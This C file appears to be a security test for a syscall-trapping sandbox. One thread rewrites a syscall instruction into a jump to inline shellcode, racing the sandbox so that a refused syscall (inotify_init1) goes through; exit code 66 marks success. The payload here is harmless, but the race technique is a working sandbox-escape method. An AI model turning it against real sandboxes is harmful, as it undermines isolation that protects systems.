/*
 * Writes over the instruction of a trapped call while the sentry works on it, so that the task comes
 * back with a call of its own choice. inotify_init1 is refused by the sentry, so a descriptor means
 * that the host has answered. Exits 66 then; 0 when a time of attacks did nothing. A sentry that kills
 * the process is right too.
 */
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define EVIL_AT 64

static unsigned char *page;

/* mmap by way of the page's syscall instruction */
static long call_by_page(long nr, long a, long b, long c, long d, long e, long f)
{
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
	long ret;

	__asm__ volatile("call *%[page]"
			 : "=a"(ret)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [page] "b"(page)
			 : "rcx", "r11", "memory");
	return ret;
}

static void *flip(void *unused)
{
	volatile unsigned short *code = (volatile unsigned short *)page;

	for (;;) {
		*code = 0x3eeb; /* jmp EVIL_AT */
		for (int i = 0; i < 50; i++)
			__asm__ volatile("pause");
		*code = 0x050f; /* syscall */
		for (int i = 0; i < 2000; i++)
			__asm__ volatile("pause");
	}
	return unused;
}

int main(int argc, char **argv)
{
	/* xor edi,edi; mov eax,SYS_inotify_init1; syscall; test eax,eax; js back;
	 * mov edi,66; mov eax,SYS_exit_group; syscall; back: ret */
	static const unsigned char evil[] = {
		0x31, 0xff, 0xb8, SYS_inotify_init1 & 255, SYS_inotify_init1 >> 8, 0, 0, 0x0f, 0x05,
		0x85, 0xc0, 0x78, 0x0c, 0xbf, 66, 0, 0, 0, 0xb8, SYS_exit_group & 255, 0, 0, 0,
		0x0f, 0x05, 0xc3,
	};
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 3);
	char name[] = "/tmp/swapcode.XXXXXX";
	int fd = mkstemp(name);
	pthread_t thread;

	page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	memcpy(page, "\x0f\x05\xc3", 3);
	memcpy(page + EVIL_AT, evil, sizeof(evil));
	if (fd < 0 || ftruncate(fd, 4096))
		return 2;
	close(fd);
	pthread_create(&thread, NULL, flip, NULL);
	while (time(NULL) < end) {
		long at;

		fd = open(name, O_RDWR); /* a new file: planted anew */
		at = call_by_page(SYS_mmap, 0, 4096, PROT_READ, MAP_SHARED, fd, 0);
		if (at > 0)
			munmap((void *)at, 4096);
		close(fd);
	}
	unlink(name);
	_exit(0);
}
